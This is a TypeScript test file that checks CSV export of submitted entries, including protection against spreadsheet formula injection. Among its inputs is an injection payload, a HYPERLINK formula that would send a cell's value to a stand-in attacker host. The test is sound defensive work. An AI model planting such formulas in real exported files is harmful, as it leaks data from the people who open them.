import { csvParse } from 'd3-dsv'
import { expect, test } from 'vitest'
import { mergeConfig } from '../../config/normalize/normalize.ts'
import { defaultConfig } from '../../config/schema.ts'
import { wallCsv } from './csv.ts'
import { type HandIn, writeHandIn } from './handIn.ts'
import type { Entry } from './handInStore.ts'
import { receive } from './received.ts'

const digest = 'ab'.repeat(32)
const linkOf = (fragment: string) => `https://example.org/#${fragment}`

/** On the wall, as its link brought it. */
function entryOf(handIn: Partial<HandIn>, judged: Partial<Entry> = {}): Entry {
  const { config } = mergeConfig(defaultConfig, { initialization: { seed: 7 } })
  const fragment = writeHandIn(
    { config, step: 120, log: [] },
    { digest, name: 'Ada', sentence: '', language: 'en', answers: [], ...handIn },
  )
  const end = { figures: null }
  return { ...receive(fragment), verdict: 'waiting', end, ...judged } as Entry
}

const read = (...entries: Entry[]) => csvParse(wallCsv(entries, linkOf).replace(/^\ufeff/, ''))

test('a sheet has a row for each hand-in, with its words, its figures and a link that opens it', () => {
  const figures = { trainLoss: 0.125, testLoss: 0.25, trainAccuracy: 1, testAccuracy: 0.5, digest }
  const answers = [{ part: '2.5', predicted: 'more', measured: [3, 1] }]
  const sentence = '손실이 "0.2", 곧\n작아졌다'
  const done = entryOf({ sentence, answers }, { verdict: 'true', end: { figures } as never })
  const [row, waiting] = read(done, entryOf({ name: '' }))
  expect(row).toMatchObject({
    name: 'Ada',
    verdict: 'true',
    step: '120',
    'weight seed': '7',
    trainLoss: '0.125',
    testAccuracy: '0.5',
    sentence: '손실이 "0.2", 곧 작아졌다',
    'digest handed in': digest,
    'digest found': digest,
  })
  expect(row.predictions).toMatch(/^2\.5: .+ → .+$/)
  expect(receive(row.link.split('#')[1])?.handIn.name).toBe('Ada')
  expect(waiting).toMatchObject({ name: '', verdict: 'waiting', trainLoss: '', 'digest found': '' })
})

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A2,"open")',
  '+82 10',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '%0A=1',
  '"=1"',
  "a,b;c\td'",
  '2.5',
])('no cell is taken for a formula, and each is read back as it was written: %s', (text) => {
  const [row] = read(
    entryOf({ name: text, sentence: text, answers: [{ part: '-1', predicted: 'x', measured: [] }] }),
  )
  const shown = text.replace('\t', ' ')
  for (const cell of [row.name, row.sentence]) {
    expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/)
    expect(cell.replace(/^'/, '')).toBe(shown)
  }
  expect(row.predictions).toMatch(/^'-1: /)
  expect(Object.keys(row)).toHaveLength(14)
})
